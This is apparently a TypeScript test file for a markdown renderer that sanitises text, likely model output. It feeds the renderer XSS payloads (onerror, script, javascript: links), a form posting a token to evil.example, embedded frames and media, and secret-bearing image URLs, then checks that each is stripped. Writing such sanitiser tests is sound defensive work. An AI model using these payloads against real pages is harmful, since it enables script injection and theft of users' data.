import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

// parse puts rendered HTML in a detached element, to ask it questions.
function parse(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("renderMarkdown", () => {
  it("renders markdown with highlighted code and a copy button", () => {
    const html = renderMarkdown("# Title\n\n```go\nfunc main() {}\n```\n");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain('class="hljs-keyword"');
    expect(parse(html).querySelector(".code-block > button[data-copy-code]")?.textContent).toBe("Copy");
  });

  it("escapes code in a language it does not know", () => {
    const html = renderMarkdown("```brainfuck\n<b>x</b>\n```");
    expect(html).toContain("&lt;b&gt;x&lt;/b&gt;");
  });

  it("removes what could run in the page", () => {
    const html = renderMarkdown('hi <img src=x onerror="alert(1)"> <script>alert(2)</script> [a](javascript:alert(3))');
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("javascript:");
  });

  it("opens links outside the app", () => {
    const a = parse(renderMarkdown("[x](https://example.com)")).querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.com");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("keeps what markdown makes", () => {
    const src = [
      "## Head",
      "",
      "*em* **strong** ~~del~~ `code` <kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup>",
      "",
      "> quoted",
      "",
      "1. one",
      "2. two",
      "",
      "- a",
      "",
      "---",
      "",
      "| l | c |",
      "|:--|:-:|",
      "| 1 | 2 |",
      "",
      "<details><summary>More</summary>hidden</details>",
    ].join("\n");
    const root = parse(renderMarkdown(src));
    for (const sel of ["h2", "em", "strong", "del", "code", "kbd", "sub", "sup", "blockquote", "ol > li", "ul > li", "hr", "table thead th", "table tbody td", "details > summary"]) {
      expect(root.querySelector(sel), sel).not.toBeNull();
    }
    expect(root.querySelector("th:nth-child(2)")?.getAttribute("align")).toBe("center");
  });

  it("removes styles: a style element, style attributes and the app's own classes", () => {
    const html = renderMarkdown(
      '<style>body { display: none }</style>\n\n<p style="position:fixed;inset:0">cover</p>\n\n<div class="dialog-backdrop banner hljs-string">x</div>',
    );
    expect(html).not.toContain("<style");
    expect(html).not.toContain("display: none");
    expect(html).not.toContain("style=");
    const root = parse(html);
    expect(root.querySelector("p")?.textContent).toBe("cover");
    // Only the highlighter's classes are kept: the app's classes could lay
    // the model's text over the page.
    expect(root.querySelector("div")?.className).toBe("hljs-string");
  });

  it("removes forms, their fields and buttons", () => {
    const html = renderMarkdown(
      '<form action="https://evil.example/steal" method="post"><input name="token" value="x"><textarea>t</textarea><select><option>o</option></select><button type="submit">Approve</button></form>',
    );
    const root = parse(html);
    for (const tag of ["form", "input", "textarea", "select", "option", "button"]) {
      expect(root.querySelector(tag), tag).toBeNull();
    }
  });

  it("removes frames, embedded content and page-level elements", () => {
    const html = renderMarkdown(
      [
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x"></object>',
        '<embed src="https://evil.example/x">',
        '<svg><image href="https://evil.example/leak"></image></svg>',
        '<math><mi>x</mi></math>',
        '<video poster="https://evil.example/p.png"></video>',
        '<audio src="https://evil.example/a.mp3"></audio>',
        '<picture><source srcset="https://evil.example/s.png"></picture>',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
      ].join("\n"),
    );
    expect(html).not.toContain("evil.example");
    for (const tag of ["iframe", "object", "embed", "svg", "math", "video", "audio", "picture", "source", "link", "meta", "base"]) {
      expect(parse(html).querySelector(tag), tag).toBeNull();
    }
  });

  it("removes event handlers, ids and data attributes", () => {
    const html = renderMarkdown(
      '<details open ontoggle="alert(1)"><summary onclick="alert(2)">s</summary></details> <a href="https://example.com" onmouseover="alert(3)" id="root" name="x" data-copy-code="">l</a> <span data-load-image="https://evil.example/i.png">i</span>',
    );
    expect(html).not.toMatch(/\son\w+=/);
    expect(html).not.toContain('id="');
    expect(html).not.toContain('name="');
    expect(html).not.toContain("data-");
  });

  it("does not load a remote image: a placeholder names its host", () => {
    const url = "https://images.example/leak?d=secret";
    const html = renderMarkdown(`see ![a chart](${url})`);
    const root = parse(html);
    expect(root.querySelector("img")).toBeNull();
    const holder = root.querySelector(".remote-image");
    expect(holder?.textContent).toContain("images.example");
    expect(holder?.textContent).toContain("a chart");
    expect(holder?.querySelector("button[data-load-image]")?.getAttribute("data-load-image")).toBe(url);
    // The address is still there to follow, as a link.
    expect(holder?.querySelector("a")?.getAttribute("href")).toBe(url);
  });

  it("places raw img elements and relative addresses the same way", () => {
    const root = parse(renderMarkdown('<img src="https://t.example/p.gif" alt="">\n\n![rel](/v1/sessions)'));
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelectorAll(".remote-image")).toHaveLength(2);
  });

  it("loads a remote image the user asked for, and only that one", () => {
    const asked = "https://images.example/a.png";
    const other = "https://images.example/b.png";
    const root = parse(renderMarkdown(`![a](${asked}) ![b](${other})`, { loadImages: new Set([asked]) }));
    const imgs = root.querySelectorAll("img");
    expect(imgs).toHaveLength(1);
    expect(imgs[0].getAttribute("src")).toBe(asked);
    expect(imgs[0].getAttribute("alt")).toBe("a");
    expect(imgs[0].getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(root.querySelectorAll(".remote-image")).toHaveLength(1);
  });

  it("offers no load button for an image over plain http: the page's policy would block it", () => {
    const holder = parse(renderMarkdown("![x](http://plain.example/x.png)")).querySelector(".remote-image");
    expect(holder?.textContent).toContain("plain.example");
    expect(holder?.querySelector("button")).toBeNull();
    expect(holder?.querySelector("a")?.getAttribute("href")).toBe("http://plain.example/x.png");
  });

  it("offers to load an image of the app's own origin", () => {
    const holder = parse(renderMarkdown("![x](/logo.png)")).querySelector(".remote-image");
    expect(holder?.textContent).toContain(window.location.host);
    expect(holder?.querySelector("button[data-load-image]")?.getAttribute("data-load-image")).toBe("/logo.png");
  });

  it("shows an inline data image at once: it loads nothing", () => {
    const src = "data:image/png;base64,iVBORw0KGgo=";
    expect(parse(renderMarkdown(`![dot](${src})`)).querySelector("img")?.getAttribute("src")).toBe(src);
  });

  it("renders a task list without form fields", () => {
    const root = parse(renderMarkdown("- [x] done\n- [ ] todo"));
    expect(root.querySelector("input")).toBeNull();
    const items = [...root.querySelectorAll("li")].map((li) => li.textContent?.trim());
    expect(items).toEqual(["☑ done", "☐ todo"]);
  });
});
